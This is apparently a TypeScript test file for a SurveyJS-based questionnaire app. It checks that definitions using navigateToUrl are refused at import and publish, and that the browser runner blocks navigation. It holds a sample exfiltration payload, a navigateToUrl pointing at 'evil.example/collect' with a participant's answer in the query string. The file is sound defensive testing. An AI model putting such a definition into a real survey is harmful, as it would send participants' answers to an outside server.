/**
 * Threat: a definition that sends the participant, with their answers, to another server when
 * they finish (issue 16, finding 2). Attack: an admin publishes a version of a questionnaire with
 * `navigateToUrl: "https://evil/…?q={stod_till_hjalp}"` (and the conditional variant); SurveyJS
 * would navigate there on completion, answers in the query string (the CSP does not stop
 * navigation). The server refuses such a version, naming the property and its line; nothing is
 * published or imported. And should such a definition ever be in the database, the participant's
 * browser stays on the page when they finish: the runner cancels every navigation.
 */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTokenService } from '../../src/auth/tokens.ts';
import type { SqlExecutor } from '../../src/store/executor.ts';
import type { RpcStore } from '../../src/store/rpc-store.ts';
import { checkDraftText } from '../../src/surveys/definition-rules.ts';
import { TEST_SECRET } from '../support/app.ts';
import { engines, openTestDatabase } from '../support/db.ts';
import { adminApi, freshKey, injectDefinitionJson, type AdminApi } from '../support/definition-attacks.ts';
import { shippedDefinition } from '../support/definitions.ts';
import { createWorld, enrolWithConsent, type World } from '../support/fixtures.ts';
import { assetsBuilt, openE2E, phone360 as phone, runBrowser, type E2E } from '../e2e/harness.ts';

const EVIL = 'https://evil.example/collect?q={stod_till_hjalp}';
type ErrorJson = { error: { code: string; issues?: { path: string; message: string }[] } };

/** Pågående under a key of its own, with `extra` at the survey level. */
function withNavigation(key: string, extra: Record<string, unknown>) {
  const file = shippedDefinition('pagaende');
  file.meta.key = key;
  Object.assign(file.survey, extra);
  return file;
}

describe('the definition check refuses navigation', () => {
  it('names navigateToUrl and navigateToUrlOnCondition with their lines', () => {
    for (const extra of [
      { navigateToUrl: EVIL },
      { navigateToUrlOnCondition: [{ expression: '{stod_till_hjalp} > 0', url: EVIL }] },
    ]) {
      const text = JSON.stringify(withNavigation('pagaende', extra), null, 2);
      const { findings } = checkDraftText(text);
      const [property] = Object.keys(extra);
      const finding = findings.find((f) => f.message.includes(`"${property}"`));
      expect(finding, property).toMatchObject({ severity: 'error', kind: 'content' });
      expect(finding!.message).toContain('skickar deltagaren till en annan adress');
      expect(text.split('\n')[finding!.line! - 1]).toContain(`"${property}"`);
    }
  });
});

describe.each(engines.filter((e) => e !== 'supabase'))('publishing a navigating definition on %s', (engine) => {
  let db: SqlExecutor;
  let store: RpcStore;
  let world: World;
  let api: AdminApi;

  beforeAll(async () => {
    ({ db, store } = await openTestDatabase(engine));
    world = await createWorld(store);
    api = await adminApi(store, db, world);
  });
  afterAll(() => db.close());

  it('refuses to import it: nothing is stored', async () => {
    const key = freshKey('nav');
    const res = await api.importFile(withNavigation(key, { navigateToUrl: EVIL }));
    expect(res.status).toBe(422);
    const body = (await res.json()) as ErrorJson;
    expect(body.error.code).toBe('DEFINITION_INVALID');
    expect(body.error.issues!.map((i) => i.message).join(' ')).toMatch(/Rad \d+: "navigateToUrl" i enkäten/);
    expect(await api.rowsOf(key)).toBe(0);
  });

  it('refuses to publish a draft that gained it: the draft stays a draft, nothing is published', async () => {
    const key = freshKey('nav');
    const imported = await api.importFile(withNavigation(key, {}));
    expect(imported.status).toBe(201);
    const { definition } = (await imported.json()) as { definition: { id: string } };
    const text = JSON.stringify(withNavigation(key, { navigateToUrl: EVIL }), null, 2);
    // The editor saves work in progress with its findings; publishing is where it stops.
    const saved = await api.call('PUT', `/api/admin/definitions/${definition.id}`, text, 'text/plain');
    expect(saved.status).toBe(200);
    const res = await api.call('POST', `/api/admin/definitions/${definition.id}/publish`, '{"confirmations":[]}');
    expect(res.status).toBe(422);
    expect(((await res.json()) as ErrorJson).error.code).toBe('DEFINITION_INVALID');
    const rows = await db.query<{ status: string }>('select status from public.survey_definitions where key = $1', [
      key,
    ]);
    expect(rows.map((r) => r.status)).toEqual(['draft']);
    expect(await store.publishedDefinition(world.coach, key)).toBeNull();
  });
});

describe.runIf(runBrowser)('a navigating definition already in the database', () => {
  let e2e: E2E;
  const tokens = createTokenService({ secret: TEST_SECRET, staffTtlMinutes: 60, linkTtlDays: 14 });

  beforeAll(async () => {
    if (!assetsBuilt()) throw new Error('dist/assets is missing: run `npm run build:client` first (npm test does).');
    e2e = await openE2E();
  });
  afterAll(() => e2e?.close());

  async function answerAll(page: Page, questions: { choices: { value: unknown; text: { sv: string } }[] }[]) {
    for (let i = 0; i < questions.length; i++) {
      await page.getByText(`Fråga ${i + 1} av ${questions.length}`, { exact: true }).waitFor();
      await page.getByText(questions[i]!.choices[1]!.text.sv, { exact: true }).click();
      const button = i < questions.length - 1 ? 'Nästa' : /Skicka/;
      await page.getByRole('button', { name: button }).click();
    }
  }

  it('does not take the participant (or their answers) anywhere when they finish', async () => {
    const { db, store, world, server } = e2e;
    const file = shippedDefinition('pagaende');
    // Our own server as the destination, so a navigation would be seen in the log of requests.
    const destination = `${server.baseUrl}/k?hijacked=1&q={stod_till_hjalp}`;
    await injectDefinitionJson(db, 'pagaende', {
      ...file.survey,
      navigateToUrl: destination,
      navigateToUrlOnCondition: [{ expression: '{stod_till_hjalp} notempty', url: destination }],
    });
    const who = await enrolWithConsent(store, world);
    const context = await e2e.newContext(phone);
    const page = await context.newPage();
    const requested: string[] = [];
    page.on('request', (r) => requested.push(r.url()));
    const url = `${server.baseUrl}/d/${(await tokens.signParticipantLink(who)).token}`;
    await page.goto(url);
    await answerAll(page, file.survey.pages.map((p) => p.elements[0]) as never);
    await page.getByRole('heading', { name: 'Tack för dina svar!' }).waitFor();
    await page.waitForTimeout(1500);

    expect(page.url()).toBe(url);
    expect(requested.filter((r) => r.includes('hijacked'))).toEqual([]);
    // The answers did arrive where they belong.
    const rows = await db.query<{ n: number }>(
      'select count(*)::int as n from public.responses where participant_id = $1',
      [who.participantId],
    );
    expect(rows[0]!.n).toBe(1);
    await context.close();
  });
});
